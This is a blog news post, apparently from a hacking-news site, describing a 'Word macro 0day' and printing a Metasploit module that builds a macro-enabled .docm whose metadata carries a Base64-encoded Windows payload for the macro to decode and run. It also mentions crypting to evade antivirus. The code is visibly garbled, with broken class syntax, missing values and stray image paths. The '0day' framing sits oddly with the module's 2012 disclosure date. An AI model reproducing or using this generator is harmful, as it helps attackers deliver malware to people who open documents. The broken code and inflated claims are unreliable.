Microsoft Word Macro Execution 0day Exploit Found

An exploit in Microsoft Office Word has been discovered allowing hackers to execute malicious macro-based codes. Attackers can run the exploit in Metasploit and embed a macro virus into a Microsoft Word document.

According to WikiPedia:

A macro virus is a virus that is written in a macro language: a programming language which is embedded inside a software application (e.g., word processors and spreadsheet applications). Some applications, such as Microsoft Office, Excel, Power point allow macro programs to be embedded in documents such that the macros are run automatically when the document is opened, and this provides a distinct mechanism by which malicious computer instructions can spread. This is one reason it can be dangerous to open unexpected attachments in e-mails. Many antivirus programs can detect macro viruses, however they are still difficult to detect and its spread from the network.A hacker injecting this exploit into a network of computers can be destructive. A virus such as this can spread like bacteria in a petri-dish. Especially in this day and age where files are always transferred from one computer to another, not just in schools but also at work places and of course amongst friends and families. The virus can spread to millions of computers within just a few months, weeks, days or even hours.

The exploit was uploaded to an exploit database by an internet user going by the alias of sinn3r, with the whole code being available for anyone to use. It is unsure whether sinn3r is the original author of the exploit as of yet.

# This module requires Metasploit:
# Current source:
require 'msf/core'
require 'rex/zip'

class MetasploitModule "Microsoft Office Word Malicious Macro Execution",
'Description' => %q{
This module generates a macro-enabled Microsoft Office Word document. The comments
metadata in the data is injected with a Base64 encoded payload, which will be
decoded by the macro and execute as a Windows executable.

For a successful attack, the victim is required to manually enable macro execution.
'License' => MSF_LICENSE,
'Author' =>
'sinn3r' # Metasploit
'References'=>
['URL', '']
'DefaultOptions' =>
'EXITFUNC' => 'thread',
'DisablePayloadHandler' => true
'Platform' => 'win',
'Targets' =>
['Microsoft Office Word', {}],
'Privileged' => false,'DisclosureDate' => "Jan 10 2012",
'DefaultTarget' => 0

register_options(["BODY", [false, 'The message for the document body', '']),'FILENAME', [true, 'The Office document macro file', 'msf.docm'])
], self.class)

def on_file_read(short_fname, full_fname)
buf =

case short_fname
when /document\.xml/
buf.gsub!(/DOCBODYGOESHER/, datastore['BODY'])
when /core\.xml/
b64_payload = ' ' * 55
b64_payload << Rex::Text.encode_base64(generate_payload_exe)
buf.gsub!(/PAYLOADGOESHERE/, b64_payload)

# The original filename of __rels is actually ".rels".# But for some reason if that's our original filename, it won't be included
# in the archive. So this hacks around that.
case short_fname
when /__rels/
short_fname.gsub!(/\_\_rels/, '.rels')

yield short_fname, buf

def package_docm(path)
zip =

Dir["#{path}/**/**"].each do |file|
p = file.sub(path+'/','')

print_status("Packaging directory: #{file}")
on_file_read(p, file) do |fname, buf|
print_status("Packaging file: #{fname}")
zip.add_file(fname, buf)


def exploit
print_status('Generating our docm file...')
path = File.join(Msf::Config.install_root, 'data', 'exploits', 'office_word_macro')
docm = package_docm(path)

Viruses embedded into other forms and formats offiles can also be easily go unnoticed by anti-viruses. Silent viruses and macro viruses such as this one can easily be made undetectable by a method called crypting. Methods such as these have existed since the very first virus was ever created. With time, hackers have gotten smarter and so have their destructive viruses and methods of undetectability.

Writer and content creator at The Hack Post. My adamant love for blogging, web development and programming has made me realise that contributing what I know is not only educative but also fun. Discussing topics with others is what drove me to become an author and I love every single moment of it. Founderof


Please enter yourcomment!
Please enter your name here